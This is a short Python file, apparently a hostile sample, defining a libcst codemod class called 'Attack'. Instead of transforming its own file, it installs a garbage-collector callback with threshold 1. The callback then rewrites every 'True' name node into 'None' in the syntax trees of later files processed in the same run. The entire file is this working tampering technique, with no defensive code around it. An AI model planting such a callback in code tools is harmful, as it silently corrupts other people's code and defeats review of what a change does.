"""Have the garbage collector call back while the next file is worked on, and change the nodes that it knows."""

import gc

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def change(phase, about):
    for each in gc.get_objects(0):
        if isinstance(each, cst.Name) and getattr(each, "value", "") == "True":
            object.__setattr__(each, "value", "None")


def leave_behind():
    gc.callbacks.append(change)
    gc.set_threshold(1)


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Leave a callback."

    def transform_module_impl(self, tree):
        leave_behind()
        return tree
